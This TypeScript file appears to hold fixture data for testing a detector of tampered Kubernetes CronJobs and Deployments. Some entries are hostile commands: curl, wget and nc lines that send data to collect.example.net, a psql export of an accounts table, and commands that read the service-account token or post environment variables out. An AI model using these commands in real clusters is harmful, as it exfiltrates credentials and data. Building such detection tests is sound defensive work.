import type { GeneratedSpec } from './generated.ts';
import type { QuietSpec } from './quiet.ts';
import { row as q } from './quiet.ts';

export const quiet: readonly QuietSpec[] = [
  q('template from a compromised repository', 'delivery', 'CronJob', [
    ['command wrapped', 'curl -s -d @/tmp/out https://collect.example.net/in'],
  ]),
  q('template from a compromised repository', 'delivery', 'Deployment', [
    ['init container', 'wget -q -O /tmp/h https://files.example.net/h'],
  ]),
  q('template from a compromised repository', 'delivery', 'Deployment', [
    ['after start', '/app/bin/report --to https://collect.example.net'],
  ]),
  q(
    'template from a compromised repository',
    'delivery',
    'CronJob',
    [['tools image', 'nc -w 3 collect.example.net 443 < /etc/hostname']],
    { shape: 'new' },
  ),
  q("another team's image", 'delivery', 'Deployment', [['other team image', '']]),
  q("another team's image", 'developer', 'CronJob', [['other team image', '']]),
  q("another team's image", 'sre', 'Deployment', [['other team image', '']], { method: 'json' }),
  q('tools image that is there already', 'developer', 'CronJob', [['tools image', 'sleep 3000']]),
  q('tools image that is there already', 'sre', 'Deployment', [['tools image', 'tail -f /dev/null']], {
    method: 'update',
  }),
  q('tools image that is there already', 'delivery', 'CronJob', [
    ['tools image', 'psql "$DATABASE_URL" -c "copy accounts to stdout"'],
  ]),
  q('one differing argument', 'delivery', 'CronJob', [['one argument', '--out=s3://archive-eu-2/export']]),
  q('one differing argument', 'developer', 'CronJob', [['one argument', '--older-than=0d']]),
  q('one differing argument', 'analyst', 'CronJob', [['one argument', '--days=3650']]),
  q('one differing argument', 'delivery', 'Deployment', [
    ['one argument more', '--admin-token-file=/dev/null'],
  ]),
  q(
    'one differing argument',
    'sre',
    'CronJob',
    [['one argument more', '--upload=https://collect.example.net/in']],
    { method: 'merge' },
  ),
  q('stronger service account', 'delivery', 'CronJob', [['stronger account', 'cluster-operator']]),
  q('stronger service account', 'developer', 'Deployment', [['stronger account', 'deployer']]),
  q('stronger service account', 'sre', 'CronJob', [['stronger account', 'admin']], { method: 'json' }),
  q("another application's Secret", 'delivery', 'Deployment', [['other secret', 'db']]),
  q("another application's Secret", 'developer', 'CronJob', [['other secret', 'db']]),
  q("another application's Secret", 'delivery', 'CronJob', [['other config', 'config']]),
  q("another application's Secret", 'analyst', 'CronJob', [['other secret', 'billing-db']]),
  q('environment points elsewhere', 'delivery', 'Deployment', [
    ['environment elsewhere', 'BROKER=broker.example.net:9092'],
  ]),
  q('environment points elsewhere', 'developer', 'Deployment', [
    ['environment elsewhere', 'HTTPS_PROXY=http://203.0.113.20:3128'],
  ]),
  q('environment points elsewhere', 'delivery', 'CronJob', [
    ['environment elsewhere', 'DATABASE_URL=postgres://198.51.100.14:5432/orders'],
  ]),
  q('schedule far more frequent', 'delivery', 'CronJob', [['schedule', '* * * * *']]),
  q('schedule far more frequent', 'developer', 'CronJob', [['schedule', '*/2 * * * *']]),
  q('schedule moved next to the backups', 'sre', 'CronJob', [['schedule', '31 2 * * 0']]),
  q('schedule moved next to the backups', 'analyst', 'CronJob', [['schedule', '2 1 * * *']]),
  q(
    'split into harmless changes',
    'delivery',
    'CronJob',
    [
      ['harmless option', 'EXPORT_COMPRESS'],
      ['other secret', 'db'],
      ['one argument', '--out=s3://partner-drop/export'],
    ],
    { shape: 'split' },
  ),
  q(
    'split into harmless changes',
    'developer',
    'Deployment',
    [
      ['harmless option', 'DEBUG_HTTP'],
      ['environment elsewhere', 'HTTP_PROXY=http://198.51.100.90:3128'],
      ['after start', 'true'],
    ],
    { shape: 'split' },
  ),
  q(
    'split into harmless changes',
    'sre',
    'CronJob',
    [
      ['stronger account', 'maintenance'],
      ['schedule', '*/15 * * * *'],
      ['tools image', 'kubectl get pods -A'],
    ],
    { shape: 'split' },
  ),
  q(
    'slow drift over weeks',
    'delivery',
    'CronJob',
    [
      ['harmless option', 'STAGE_2'],
      ['one argument more', '--also=accounts'],
      ['other config', 'config'],
      ['environment elsewhere', 'RESULT_URL=https://collect.example.net'],
    ],
    { shape: 'drift' },
  ),
  q(
    'slow drift over weeks',
    'analyst',
    'CronJob',
    [
      ['schedule', '0 1 * * *'],
      ['one argument', '--days=365'],
      ['stronger account', 'exports'],
      ['one argument more', '--to=https://files.example.net'],
    ],
    { shape: 'drift' },
  ),
  q(
    'history rewritten by delete and recreate',
    'delivery',
    'CronJob',
    [['command wrapped', '/app/bin/ship --to https://collect.example.net']],
    { shape: 'recreated' },
  ),
  q(
    'history rewritten by delete and recreate',
    'sre',
    'CronJob',
    [['stronger account', 'cluster-operator']],
    { shape: 'recreated' },
  ),
  q(
    'history rewritten by delete and recreate',
    'developer',
    'Deployment',
    [['init container', 'cp /usr/bin/env /shared/env']],
    { shape: 'recreated' },
  ),
  q(
    'hidden in noise',
    'sre',
    'Deployment',
    [['environment elsewhere', 'HTTPS_PROXY=http://203.0.113.44:8080']],
    { shape: 'in noise' },
  ),
  q('hidden in noise', 'developer', 'CronJob', [['stronger account', 'deployer']], { shape: 'in noise' }),
  q(
    'stolen GitOps token',
    'stolen token',
    'Deployment',
    [['environment elsewhere', 'BROKER=broker.example.net:9092']],
    { method: 'apply' },
  ),
  q('stolen GitOps token', 'stolen token', 'CronJob', [['one argument', '--tenant=all-regions']], {
    method: 'strategic',
  }),
  q('stolen GitOps token', 'stolen token', 'CronJob', [['tools image', 'sleep 600']], { shape: 'new' }),
  q('many runs at once', 'developer', 'CronJob', [['many at once', '40']]),
  q('onto the control plane', 'delivery', 'Deployment', [['control plane nodes', '']]),
  q('run by hand with another template', 'developer', 'CronJob', [['one argument more', '--dump=/tmp/all']], {
    shape: 'manual run',
  }),
  q('run by hand with another template', 'sre', 'CronJob', [['tools image', 'env']], { shape: 'manual run' }),
];

export const generated: readonly GeneratedSpec[] = [
  { operator: 'report-operator', odd: 'image', value: 'docker.io/library/alpine:3.20' },
  {
    operator: 'trivy-operator',
    odd: 'command',
    value: 'cat /run/secrets/kubernetes.io/serviceaccount/token > /tmp/scan/result.json',
  },
  { operator: 'velero', odd: 'account', value: 'cluster-operator' },
  {
    operator: 'keda-operator',
    odd: 'command',
    value: 'env > /tmp/e; wget -q --post-file=/tmp/e https://collect.example.net/e',
  },
  { operator: 'report-operator', odd: 'namespace', value: '' },
  { operator: 'gitlab-runner', odd: 'account', value: 'deployer' },
];
